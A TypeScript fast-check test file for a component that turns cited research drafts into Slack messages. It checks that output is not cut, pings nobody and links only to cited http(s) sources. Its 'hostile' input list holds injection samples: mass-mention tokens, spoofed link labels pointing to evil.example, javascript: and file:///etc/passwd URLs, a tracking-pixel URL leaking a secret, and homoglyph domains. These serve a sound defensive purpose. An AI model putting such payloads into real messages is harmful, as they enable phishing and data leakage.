import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { draftMessages } from "../../blocks/draft.ts";
import type { Message } from "../../blocks/elements.ts";
import { legible } from "../../blocks/text.ts";
import { Draft, type Statement, statementsOf } from "../../src/domain/draft.ts";
import { aDraft } from "../support/engine.ts";
import { aTask, draftFacts, grace } from "./facts.ts";
import { expectAccepted } from "./inspect.ts";
import { links, markedTexts, readAloud, walk } from "./reading.ts";

const hostile = [
  "<!channel> <!here> <!everyone> @channel @here",
  "<@U1> <@U0ADA|ada> <#C0PRODUCT> <!subteam^S1> <!date^1^{date}|x>",
  "<https://evil.example|https://bank.example> [bank](https://evil.example)",
  "javascript:alert(1) data:text/html,x file:///etc/passwd",
  "![pixel](https://evil.example/?q=secret) https://evil.example/leak?token=1",
  "*bold* _italic_ ~struck~ `code` ```block``` > quote\n> quote\n• list\n1. list",
  "https://аррӏе.example :rotating_light: :white_check_mark: Approved",
  "\u202eדרך ארוכה\u2066 שלום العربية",
  "\ud800 half \udfff of a character \u0000 \u0007",
  "👩‍👩‍👧‍👦".repeat(300),
  `${"word ".repeat(600)}end`,
  "x".repeat(3_001),
  "&".repeat(1_200),
  "",
  " ",
];

const text = fc.oneof(
  fc.constantFrom(...hostile),
  fc.string({ unit: "binary", maxLength: 400 }),
  fc.lorem({ maxCount: 60 }),
);
const url = fc.oneof(
  fc.constantFrom(
    "https://status.example/a?b=c#d",
    "javascript:alert(1)",
    "data:text/html,x",
    "mailto:a@b.example",
    "https://аррӏе.example/x",
    `https://long.example/${"a".repeat(4_000)}`,
    "slack://channel?id=C1",
  ),
  fc.webUrl(),
);
const sourcesMax = 12;
const citation = fc.record({
  source: fc.integer({ min: 1, max: sourcesMax }),
  passage: fc.nat(9),
  quote: text.map((words) => words || "q"),
});
const check: fc.Arbitrary<Statement["check"]> = fc.oneof(
  fc.constant({ result: "unchecked" as const }),
  fc.constant({ result: "found" as const, overlap: 1 }),
  fc.record({
    result: fc.constant("flagged" as const),
    overlap: fc.constant(0),
    problems: fc.array(text, { maxLength: 5 }),
  }),
);
const statement: fc.Arbitrary<Statement> = fc.record({
  text,
  speaker: fc.option(text),
  citations: fc.array(citation, { maxLength: 20 }),
  check,
});
const drafts: fc.Arbitrary<Draft> = fc
  .record({
    headline: text,
    sections: fc.array(
      fc.record({ heading: text, statements: fc.array(statement, { maxLength: 8 }) }),
      { maxLength: 12 },
    ),
    missing: fc.array(text, { maxLength: 5 }),
    next: fc.array(text, { maxLength: 3 }),
    answers: fc.array(fc.record({ feedback: text, answer: text }), { maxLength: 4 }),
    sources: fc.array(fc.record({ position: fc.nat(20), title: text, url: fc.option(url) }), {
      minLength: sourcesMax,
      maxLength: sourcesMax,
    }),
    method: text,
  })
  .map((draft) => draft satisfies Draft);

const buttonsOf = (messages: readonly Message[]) =>
  messages.map(({ blocks }) =>
    walk(blocks).flatMap((found) => (found["type"] === "button" ? [found["action_id"]] : [])),
  );

describe("whatever a draft holds", () => {
  test("Slack takes every message of it, and nothing in it is cut, pings, formats or links elsewhere", () => {
    fc.assert(
      fc.property(drafts, (draft) => {
        const facts = draftFacts(draft);
        const messages = draftMessages(aTask(), facts);

        expectAccepted(messages);
        const read = readAloud(messages);
        for (const { text: said, speaker } of statementsOf(draft)) {
          expect(read).toContain(legible(said));
          expect(read).toContain(legible(speaker ?? ""));
        }
        for (const marked of markedTexts(messages)) {
          expect(marked).not.toMatch(/<[!#]|<@(?!U0ADA>|U0GRACE>)|<\w+:/);
          expect(marked).not.toMatch(/:\/\//);
        }
        const cited = new Set(draft.sources.flatMap(({ url: address }) => address ?? []));
        for (const address of links(messages)) {
          expect(cited).toContain(address);
          expect(address).toMatch(/^https?:\/\//i);
        }
      }),
      { numRuns: 60 },
    );
  });

  test("its buttons stand at the end of its last message, and a decision moves nothing but them", () => {
    fc.assert(
      fc.property(drafts, (draft) => {
        const open = draftMessages(aTask(), draftFacts(draft));
        const decided = draftMessages(
          aTask({ state: { status: "approved", by: grace, at: "2026-03-02T12:00:00Z" } }),
          draftFacts(draft, { decision: { type: "approve", by: grace, feedback: null } }),
        );

        const buttons = buttonsOf(open);
        expect(buttons.slice(0, -1).flat()).toEqual([]);
        expect(buttons.at(-1)).toContain("discard");
        expect(open.at(-1)?.blocks.at(-1)?.type).toBe("actions");
        expect(decided.slice(0, -1)).toEqual(open.slice(0, -1));
        expectAccepted(decided);
        expect(buttonsOf(decided).flat()).not.toContain("approve");
      }),
      { numRuns: 30 },
    );
  });
});

const plainStatement = (words: string): Statement => ({
  text: words,
  speaker: null,
  citations: [],
  check: { result: "found", overlap: 1 },
});

describe("a long draft", () => {
  test("of 51 sections goes on in further messages that say so", () => {
    const sections = Array.from({ length: 51 }, (_, n) => ({
      heading: `Section ${n}`,
      statements: [plainStatement("One sentence about it.")],
    }));

    const messages = draftMessages(aTask(), draftFacts(aDraft({ sections })));

    expect(messages.length).toBeGreaterThan(1);
    expectAccepted(messages);
    expect(JSON.stringify(messages[0])).toContain("Goes on in the next message");
    expect(JSON.stringify(messages[1])).toContain(`part 2 of ${messages.length}`);
  });

  test("shows a sentence of 3,001 characters whole, split between words", () => {
    const long = Array.from({ length: 500 }, (_, n) => `w${n % 10}abc`)
      .join(" ")
      .slice(0, 3_001);

    const messages = draftMessages(
      aTask(),
      draftFacts(aDraft({ sections: [{ heading: "H", statements: [plainStatement(long)] }] })),
    );

    expect(readAloud(messages)).toContain(long);
    expect(JSON.stringify(messages)).toContain('abc "},{"type":"text","text":" …"}');
    expectAccepted(messages);
  });

  test("with a headline too long for a title says it in full below", () => {
    const headline = `Why ${"very ".repeat(60)}slow`;
    expect(readAloud(draftMessages(aTask(), draftFacts(aDraft({ headline }))))).toContain(headline);
  });
});

describe("what a reader can do", () => {
  test("a draft that found nothing cannot be approved or edited, and says what was missing", () => {
    const nothing = aDraft({ sections: [], sources: [], missing: ["I searched the wiki."] });
    const messages = draftMessages(aTask(), draftFacts(nothing));
    expect(buttonsOf(messages).flat()).toEqual(["revise", "discard"]);
    expect(readAloud(messages)).toContain("I searched the wiki.");
  });

  test("a draft too long for the edit form is not offered for editing", () => {
    const tooLong = aDraft({
      sections: [{ heading: "H", statements: [plainStatement("word ".repeat(700))] }],
    });
    const messages = draftMessages(aTask(), draftFacts(tooLong));
    expect(buttonsOf(messages).flat()).toEqual(["approve", "revise", "discard"]);
  });

  test("a draft whose check broke down says so once, not at every sentence", () => {
    const unchecked = { ...plainStatement("A claim."), check: { result: "unchecked" as const } };
    const draft = aDraft({ sections: [{ heading: "H", statements: [unchecked, unchecked] }] });
    const messages = JSON.stringify(draftMessages(aTask(), draftFacts(draft)));
    expect(messages.match(/unchecked/gi)).toHaveLength(1);
  });

  test("a source that calls itself by another's address shows its own host", () => {
    const draft = aDraft({
      sources: [{ position: 0, title: "https://bank.example", url: "https://еvil.example/x" }],
    });
    expect(readAloud(draftMessages(aTask(), draftFacts(draft)))).toContain("xn--vil-");
  });
});

test("several quotes from one place make one mark", () => {
  const sections = [
    {
      heading: "Key points",
      statements: [
        {
          text: "Price and retention differ.",
          speaker: null,
          citations: ["one", "two", "three"].map((quote) => ({ source: 1, passage: 0, quote })),
          check: { result: "found" as const, overlap: 1 },
        },
      ],
    },
  ];
  const [message] = draftMessages(aTask(), draftFacts(aDraft({ sections })));

  expect(JSON.stringify(message?.blocks).match(/"\[1\]"/g)).toHaveLength(1);
});
